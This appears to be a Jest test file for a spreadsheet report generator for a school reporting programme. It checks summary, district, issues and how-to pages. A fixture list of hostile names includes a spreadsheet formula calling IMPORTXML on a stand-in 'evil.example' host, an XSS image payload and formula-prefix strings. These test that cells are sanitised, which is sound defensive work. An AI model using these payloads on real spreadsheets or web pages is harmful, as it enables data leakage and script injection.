import { describe, expect, test } from '@jest/globals';
import type { Analysis } from '../../../src/domain/report/analyse';
import type { BookSnapshot } from '../../../src/domain/report/bookSnapshot';
import { planReport } from '../../../src/domain/report/plan';
import { byDistrict, tally } from '../../../src/domain/report/summary';
import { groupIssues } from '../../../src/domain/schema/issue';
import { rowCount } from '../../../src/domain/schema/table';
import type { Cell } from '../../../src/domain/values/cell';
import { districtPage } from '../../../src/tabs/pages/districtPage';
import { howToPage } from '../../../src/tabs/pages/howToPage';
import { issuesPage } from '../../../src/tabs/pages/issuesPage';
import { matrixShape, matrixStages, matrixTable, stageColumns } from '../../../src/tabs/pages/matrix';
import { ownColumnsTable } from '../../../src/tabs/pages/ownColumns';
import { type Page, safe } from '../../../src/tabs/pages/page';
import { bar, type PageLinks } from '../../../src/tabs/pages/sections';
import { onlyDistrictPage, summaryPage } from '../../../src/tabs/pages/summaryPage';
import {
  analysisOf,
  type BookFields,
  bookOf,
  day,
  madeBook,
  on,
  organisationOf,
  stageOf,
  typed,
} from '../../support/analysis';

const PLACES: PageLinks = {
  reportSheet: 7,
  issuesSheet: 8,
  districtSheets: new Map(),
  stamp: "'Служебное'!$B$6",
};
const made = (fields: BookFields): BookSnapshot =>
  madeBook(fields, (book) =>
    planReport(
      book.tables.report,
      analysisOf(book),
      Array(rowCount(book.tables.report)).fill(''),
      () => true,
    ),
  );

function pagesOf(book: BookSnapshot): Record<string, Page> {
  const analysis = analysisOf(book);
  const districts = byDistrict(analysis.programme, analysis.records, book.today);
  const stages = matrixStages(analysis.programme, districts);
  const own = ownColumnsTable(book, analysis);
  const places = { ...PLACES, districtSheets: new Map(districts.map(({ key }, index) => [key, 20 + index])) };
  const part = (index: number) => ({
    district: districts[index] as (typeof districts)[0],
    stages,
    issues: analysis.issues,
  });
  return {
    summary: summaryPage(analysis, districts, places, own),
    howTo: howToPage(analysis, places, book.today),
    issues: issuesPage(groupIssues(analysis.issues), analysis.registry, { report: 'Отчёт' }, { report: 7 }),
    ...Object.fromEntries(
      districts.map((_, index) => [`district ${index}`, districtPage(analysis, part(index), places)]),
    ),
    ...(districts.length > 0 ? { only: onlyDistrictPage(analysis, part(0), places, own) } : {}),
  };
}

const HOSTILE = [
  '=IMPORTXML("https://evil.example";"//a")',
  '+79123456789',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  "'=1",
  '<img src=x onerror=alert(1)>',
  '{{name}}',
  '01.02.2020',
  '5 %',
  '🙂'.repeat(70),
  '\u202eводшил',
];

describe('names that look like formulas', () => {
  const book = made({
    title: HOSTILE[0] ?? '',
    organisations: HOSTILE.map((text, index) =>
      organisationOf({ id: `К-${index}`, shortName: text, district: text, fullName: text }),
    ),
    stages: HOSTILE.map((text, index) =>
      stageOf({ code: `${index}`, title: text, deadline: day('2020-09-01') }),
    ),
    targets: [
      {
        indicator: 'pairs',
        title: HOSTILE[1] ?? '',
        date: day('2020-12-31'),
        value: 5,
        unit: HOSTILE[0] ?? '',
      },
    ],
    columns: HOSTILE.map((text) => ({ tab: 'Отчёт', header: text, type: 'текст', summary: 'да' })),
    coverage: HOSTILE.map((text) => ({ organisation: text, date: text, comment: text })),
  });
  const filled = HOSTILE.reduce(
    (each, text, row) => typed(typed(each, row, 'doneOn', text), row, 'decision', text),
    book,
  );

  test.each(Object.entries(pagesOf(filled)))(
    'on the page «%s» are never formulas, and every formula is ours',
    (_, page) => {
      for (const cell of page.rows.flat()) {
        if (typeof cell === 'object')
          expect(cell.formula).toMatch(
            /^=(HYPERLINK\("#gid=\d+(&range=[A-Z]+\d+)?";"[^"]*"\)|'Служебное'!\$B\$6)$/,
          );
        else if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
      }
    },
  );
  test('pages are rectangles: no row is wider than the page', () => {
    for (const page of Object.values(pagesOf(filled))) {
      expect(Math.max(...page.rows.map((row) => row.length))).toBeLessThanOrEqual(page.columns);
    }
  });
  test.each([
    ['=1', "'=1"],
    ['+7', "'+7"],
    ["'x", "''x"],
    ['05.10.2020', "'05.10.2020"],
    ['1/2', "'1/2"],
    ['Школа № 1', 'Школа № 1'],
    ['1. Назначить', '1. Назначить'],
    ['', ''],
  ])('%j is written as %j', (text, expected) => {
    expect(safe(text)).toBe(expected);
  });
});

describe('the bar of a district', () => {
  const sum = (inTime: number, late: number, missed: number, notYetDue: number) => ({
    ...tally([]),
    inTime,
    late,
    missed,
    notYetDue,
    expected: inTime + late + missed + notYetDue,
  });
  test.each([
    ['nobody is expected', sum(0, 0, 0, 0), ''],
    ['all is done', sum(5, 5, 0, 0), '██████████'],
    ['nothing is due', sum(0, 0, 0, 8), '▒▒▒▒▒▒▒▒▒▒'],
    ['all is missed', sum(0, 0, 3, 0), '░░░░░░░░░░'],
    ['half', sum(4, 1, 0, 5), '█████▒▒▒▒▒'],
    ['one of a thousand is late and must be seen', sum(999, 0, 1, 0), '█████████░'],
  ])('%s', (_, figures, expected) => {
    expect(bar(figures)).toBe(expected);
  });
  test('has ten blocks whatever the figures are', () => {
    for (let seed = 0; seed < 500; seed += 1) {
      expect(bar(sum(seed % 7, seed % 5, seed % 11, (seed % 13) + 1))).toHaveLength(10);
    }
  });
});

const texts = (page: Page): string[] =>
  page.rows.map((row) => row.map((cell) => (typeof cell === 'object' ? '→' : String(cell))).join('|'));

describe('the summary', () => {
  const book = made({
    organisations: [
      organisationOf({ id: 'А-1', district: 'Кировский' }),
      organisationOf({ id: 'А-2', district: 'Кировский' }),
      organisationOf({ id: 'Б-1', district: 'Ленинский' }),
      organisationOf({ id: 'Б-2', district: 'Ленинский', closed: day('2020-09-30') }),
    ],
    stages: [
      stageOf({ code: '1', deadline: day('2020-10-05') }),
      stageOf({ code: '2', deadline: day('2020-12-01'), documentNeeded: true }),
    ],
    columns: [{ tab: 'Отчёт', header: 'Часов', type: 'целое число', summary: 'да' }],
    today: '2020-10-06',
  });
  const filed = typed(
    typed(typed(book, 0, 'doneOn', on('2020-10-05')), 0, 'own:часов', 3),
    2,
    'own:часов',
    '4',
  );
  const lines = texts(pagesOf(filed).summary as Page);

  test('counts organisations that are open, and figures that add up', () => {
    expect(lines).toContain('Ожидается отчётов|6');
    expect(lines).toContain('Сдано в срок|1|17 %');
    expect(lines).toContain('Просрочено|2|33 %');
    expect(lines.find((line) => line.startsWith('Итого|'))).toBe('Итого|3|6|1|0|2|3|17|██▒▒▒▒▒░░░|1|0');
    expect(lines.find((line) => line.startsWith('Ленинский|'))).toMatch(/^Ленинский\|1\|2\|0\|0\|1\|1\|0\|/);
  });
  test('what «Столбцы» asked to see is summed over rows that count', () => {
    expect(lines).toContain('Часов|2|7');
  });
  test('the overdue list has a link to the row', () => {
    const at = lines.indexOf('▍Просрочено|2 отчёта');
    expect(at).toBeGreaterThan(0);
    expect(lines.slice(at + 2, at + 4).map((line) => line.split('|')[0])).toEqual(['Школа А-2', 'Школа Б-1']);
    const row = pagesOf(filed).summary?.rows[at + 2] ?? [];
    expect(row[row.length - 1]).toEqual({ formula: '=HYPERLINK("#gid=7&range=A4";"строка 4")' });
  });
  test('a bar of a district that is not done is never called 100 per cent', () => {
    const organisations = Array.from({ length: 300 }, (_, index) => organisationOf({ id: `К-${index}` }));
    let one = made({ organisations });
    const { report } = one.tables;
    const done = report.at.get('doneOn') ?? 0;
    const grid = report.grid.map((row, index) =>
      index < 2 ? row : row.map((cell, column): Cell => (column === done ? on('2020-10-01') : cell)),
    );
    one = { ...one, tables: { ...one.tables, report: { ...report, grid } } };
    const total = texts(pagesOf(one).summary as Page).find((line) => line.startsWith('Итого|'));
    expect(total).toMatch(/^Итого\|300\|300\|299\|0\|1\|0\|99\|/);
  });
});

describe('the picture of a district', () => {
  const organisations = [
    organisationOf({ id: 'А-1' }),
    organisationOf({ id: 'А-2' }),
    organisationOf({ id: 'УО', type: 'управление образования', shortName: 'Управление' }),
  ];
  const stages = [
    stageOf({ code: '1', appliesTo: ['школа'], deadline: day('2020-10-05') }),
    stageOf({ code: '2', appliesTo: ['управление образования'], deadline: day('2020-10-05') }),
    stageOf({ code: '3', dropped: true }),
  ];
  const book = made({ organisations, stages, today: '2020-10-06' });
  const analysis: Analysis = analysisOf(book);
  const districts = byDistrict(analysis.programme, analysis.records, book.today);

  test('has schools down and their stages across; a body alone of its kind is listed below', () => {
    const shown = matrixStages(analysis.programme, districts);
    expect(shown.map(({ code }) => code)).toEqual(['1']);
    const shape = matrixShape(shown, districts[0] as (typeof districts)[0]);
    expect([shape.organisations.map(({ id }) => id), shape.others.map(({ id }) => id)]).toEqual([
      ['А-1', 'А-2'],
      ['УО'],
    ]);
    const lines = texts(pagesOf(book)['district 0'] as Page);
    expect(lines).toContain('Школа А-1|просроч.');
    expect(lines).toContain('Сдано|0 из 2');
    expect(lines.some((line) => line.startsWith('Управление|2. Мероприятие 2|'))).toBe(true);
  });
  test('is as wide as its stages, and never too narrow for the lists', () => {
    expect([stageColumns([]), stageColumns(stages), stageColumns(Array(22).fill(stages[0]))]).toEqual([
      8, 8, 22,
    ]);
  });
  test('of a programme without organisations there is none, and the summary still stands', () => {
    const pages = pagesOf(bookOf({ organisations: [] }));
    expect(Object.keys(pages)).toEqual(['summary', 'howTo', 'issues']);
    expect(texts(pages.issues as Page).join()).toContain('Заполните вкладку «Организации»');
  });
});

test('«Замечания» names tab, cell, column, what is expected, what was found and how to repair it', () => {
  const book = typed(made({}), 0, 'doneOn', '5 октября 2020');
  const [, row] = pagesOf(book).issues?.rows ?? [];
  expect(row).toEqual([
    'Отчёт',
    { formula: '=HYPERLINK("#gid=7&range=E2";"E2")' },
    'Кировский',
    'Школа К-01',
    'Дата выполнения',
    'дата вида 05.10.2020',
    '5 октября 2020',
    'Похоже, это 05.10.2020: введите так, цифрами, и нажмите Enter.',
  ]);
});

test('«Как заполнять» leads every organisation to its first row', () => {
  const book = made({
    organisations: [organisationOf({ id: 'А' }), organisationOf({ id: 'Б' })],
    stages: [stageOf({ code: '1' }), stageOf({ code: '2' })],
  });
  const rows = pagesOf(book).howTo?.rows ?? [];
  const links = rows.flatMap(([first]) => (typeof first === 'object' ? [first.formula] : []));
  expect(links).toEqual([
    '=HYPERLINK("#gid=7";"открыть")',
    '=HYPERLINK("#gid=7&range=A2";"открыть")',
    '=HYPERLINK("#gid=7&range=A4";"открыть")',
  ]);
});

test('of more issues than the page lists the rest is counted', () => {
  const analysis = analysisOf(bookOf({}));
  const issue = {
    tab: 'report',
    row: 2,
    column: null,
    columnIndex: null,
    organisation: null,
    found: null,
  } as const;
  const issues = Array.from({ length: 1_003 }, () => ({ ...issue, problem: { code: 'required' } as const }));
  const { rows } = issuesPage(issues, analysis.registry, {}, {});
  // The header, a thousand issues, and the line that counts the others.
  expect(rows).toHaveLength(1_002);
  expect(rows.at(-1)).toEqual(['…и ещё 3 замечания']);
});

test('the line above the schools counts what was handed in late as handed in', () => {
  const organisations = ['К-01', 'К-02', 'К-03'].map((id) => organisationOf({ id }));
  const row = (id: string, doneOn: string) => ({
    key: `${id}/1`,
    organisation: `Школа ${id}`,
    stage: '1. Мероприятие 1',
    ...(doneOn === '' ? {} : { doneOn: on(doneOn) }),
  });
  const stages = [stageOf({ code: '1', deadline: day('2020-09-10') })];
  const report = [row('К-01', '2020-09-09'), row('К-02', '2020-09-11'), row('К-03', '')];
  const analysis = analysisOf(bookOf({ organisations, stages, report }));
  const districts = byDistrict(analysis.programme, analysis.records, day('2020-10-06'));
  const [district] = districts;
  if (!district) throw new Error('no district');
  const shape = matrixShape(matrixStages(analysis.programme, districts), district);
  const [, , totals] = matrixTable(shape, district, analysis.registry);
  expect(totals?.[1]).toBe('2 из 3');
});
